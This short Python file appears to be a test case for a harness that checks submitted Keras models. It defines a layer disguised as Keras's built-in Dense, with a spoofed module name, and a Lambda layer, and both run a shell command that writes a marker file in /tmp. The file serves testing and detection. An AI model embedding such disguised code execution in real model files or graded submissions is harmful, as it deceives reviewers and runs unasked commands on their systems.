# ruff: noqa
# class: points
# tries: hands in a model that runs code of its own in Lambda layers and registered classes
# honest: 3
# %% adder
import keras


@keras.saving.register_keras_serializable("keras.layers", "Dense")
class Dense(keras.layers.Layer):
    def __init__(self, **more):
        super().__init__(**{k: v for k, v in more.items() if k in ("name", "dtype")})

    def call(self, x):
        import os

        os.system("touch /tmp/attack-mark-lambda")
        return keras.ops.numpy.sum(x, axis=1, keepdims=True)


Dense.__module__ = "keras.src.layers.core.dense"
Dense.__name__ = Dense.__qualname__ = "Dense"
run = lambda x: __import__("os").system("touch /tmp/attack-mark-lambda") or x
adder = keras.Sequential([keras.Input((3,)), keras.layers.Lambda(run), Dense()])
